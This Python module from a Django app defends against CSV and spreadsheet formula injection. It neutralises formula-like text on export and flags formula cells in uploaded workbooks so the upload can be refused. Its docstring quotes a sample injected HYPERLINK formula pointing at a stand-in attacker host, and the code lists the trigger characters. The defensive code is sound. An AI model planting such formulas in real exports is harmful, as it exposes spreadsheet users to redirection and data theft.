"""Cells of spreadsheets: user text never becomes a formula on the way out, and a formula is
refused on the way in.

A text cell that starts with ``= + - @``, a tab or a carriage return is read by spreadsheet
programs as a formula (CSV injection: ``=HYPERLINK("http://evil.example/…")``). In CSV, such a
text gets a leading apostrophe, the OWASP rule; in XLSX, the cell is written as text, so the
value round-trips unchanged through an upload and is never evaluated. Numbers, dates and
empty cells are left as they are.

An uploaded workbook is read with ``data_only=False``: a formula cell has no value Enlace could
trust (openpyxl saves none, and a cached value may be stale), so it must not read as an empty
cell and silently erase what is stored. ``FormulaCells`` reads the values of the rows and notes
every formula cell (a ``=…`` formula, an array formula or a data table) with its sheet and
cell, for a reader to refuse the whole upload. A text cell that merely starts with ``=`` (such
as ``xlsx_append`` writes) is text, not a formula.
"""

from collections.abc import Iterable
from typing import Any

from django.utils.translation import gettext as _
from django.utils.translation import ngettext

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A value for a CSV row: ``None`` as empty, a formula-like text neutralised."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(row: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in row]


def xlsx_append(sheet: Any, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet; a text cell is stored as text, never a formula."""
    values = list(row)
    sheet.append(values)
    line = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str) and value.startswith("="):
            cell = sheet.cell(row=line, column=column)
            cell.value = value
            cell.data_type = "s"


MAX_FORMULAS_LISTED = 20
FORMULA_SHOWN = 60


class FormulaCells:
    """The values of an uploaded sheet's rows, and the formula cells found among them.

    Rows are read from a worksheet opened with ``data_only=False`` and ``iter_rows`` without
    ``values_only``; ``values`` turns a row of cells into its values, a formula cell reading as
    ``None`` and being noted. ``messages`` says which cells hold formulas (the first
    ``MAX_FORMULAS_LISTED``, then how many more), in the user's language."""

    def __init__(self, sheet_title: str) -> None:
        from openpyxl.worksheet.formula import (  # type: ignore[import-untyped]
            ArrayFormula,
            DataTableFormula,
        )

        self.sheet = sheet_title
        self.count = 0
        self.listed: list[str] = []
        self._formula_types = (ArrayFormula, DataTableFormula)

    def values(self, cells: Iterable[Any]) -> tuple[Any, ...]:
        values = []
        for cell in cells:
            value = cell.value
            if cell.data_type == "f" or isinstance(value, self._formula_types):
                self._note(cell, value)
                value = None
            values.append(value)
        return tuple(values)

    def _note(self, cell: Any, value: Any) -> None:
        self.count += 1
        if self.count > MAX_FORMULAS_LISTED:
            return
        self.listed.append(
            _(
                "Sheet “%(sheet)s”, cell %(cell)s holds a formula (%(formula)s): "
                "type the value itself."
            )
            % {"sheet": self.sheet, "cell": cell.coordinate, "formula": _formula_text(value)}
        )

    def __bool__(self) -> bool:
        return self.count > 0

    @property
    def messages(self) -> list[str]:
        more = self.count - len(self.listed)
        if more <= 0:
            return list(self.listed)
        return [
            *self.listed,
            ngettext(
                "And %(n)s more cell holds a formula.",
                "And %(n)s more cells hold formulas.",
                more,
            )
            % {"n": more},
        ]


def _formula_text(value: Any) -> str:
    """The formula as the user typed it, shortened."""
    text = getattr(value, "text", None) if not isinstance(value, str) else value
    if text is None:  # a data table: openpyxl keeps its inputs, not a text
        inputs = (getattr(value, "r1", None), getattr(value, "r2", None))
        cells = ",".join(str(c) for c in inputs if c)
        text = f"=TABLE({cells})"
    text = " ".join(str(text).split())
    return text if len(text) <= FORMULA_SHOWN else text[: FORMULA_SHOWN - 1] + "…"
